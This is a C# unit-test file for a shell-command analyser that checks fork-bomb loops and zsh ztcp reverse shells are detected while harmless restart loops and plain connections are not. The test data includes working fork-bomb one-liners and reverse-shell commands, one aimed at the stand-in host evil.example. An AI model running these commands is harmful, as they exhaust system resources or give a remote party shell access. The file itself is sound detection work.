using Mstro.Bouncer.Analysis;
using static Mstro.Bouncer.Tests.Analysis.AnalysisKit;

namespace Mstro.Bouncer.Tests.Analysis;

/// <summary>Endless loops that flood the process table, and shells moved onto a socket descriptor (zsh's ztcp).</summary>
public class FloodAndSocketTests
{
    [Theory]
    [InlineData("while true; do (sleep 999 &); done")]
    [InlineData("while :; do sleep 1 & done")]
    [InlineData("until false; do nohup yes >/dev/null & done")]
    [InlineData("for ((;;)); do bash -c 'sleep 9' & done")]
    [InlineData("for ((i=0;;i++)); do ./worker & done")]
    [InlineData("while [ 1 ]; do { cat /dev/zero > /dev/null & } ; done")]
    [InlineData("while ((1)); do python3 -c 'pass' & echo started; done")]
    [InlineData("while /bin/true\ndo\n  node spin.js &\ndone")]
    [InlineData("bash -c 'while true; do (sleep 999 &); done'")]
    public void EndlessLoopsThatStartBackgroundProcessesAreForkBombs(string command) =>
        Of(command).Has(EffectKind.ForkBomb);

    [Theory]
    [InlineData("while true; do npm run dev; sleep 1; done")]
    [InlineData("while true; do curl -s localhost:3000/health && break; sleep 1; done")]
    [InlineData("while true; do ./server & sleep 5; kill $!; done")]
    [InlineData("while true; do nc -l 8080 & wait; done")]
    [InlineData("for i in 1 2 3; do sleep 1 & done; wait")]
    [InlineData("for ((i=0;i<3;i++)); do ./job $i & done; wait")]
    [InlineData("while read line; do echo \"$line\" & done < list.txt")]
    [InlineData("while true; do (make build &) ; inotifywait -e modify src; done")]
    [InlineData("until curl -sf localhost:8080; do sleep 1; done")]
    public void RestartLoopsAndLoopsThatWaitAreNot(string command) =>
        Of(command).HasNo(EffectKind.ForkBomb);

    [Theory]
    [InlineData("zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", "10.0.0.1")]
    [InlineData("zmodload zsh/net/tcp; ztcp evil.example 80; fd=$REPLY; bash -i <&$fd >&$fd 2>&1", "evil.example")]
    [InlineData("zmodload zsh/net/tcp\nztcp 192.168.1.5 9001\nsh 0<&3 1>&3 2>&3", "192.168.1.5")]
    public void AShellOnAZtcpDescriptorIsAReverseShell(string command, string host) =>
        Of(command).Has(EffectKind.ReverseShell, host: host);

    [Fact]
    public void ZtcpWithoutAShellIsJustAConnection()
    {
        var effects = Of("zmodload zsh/net/tcp; ztcp localhost 8080; print -u $REPLY 'GET /'; ztcp -c $REPLY");
        effects.HasNo(EffectKind.ReverseShell);
        effects.Has(EffectKind.Network, host: "localhost", detail: "localhost:8080");
        Of("echo hi >&2; bash -c 'echo x' 2>&1").HasNo(EffectKind.ReverseShell);
    }
}
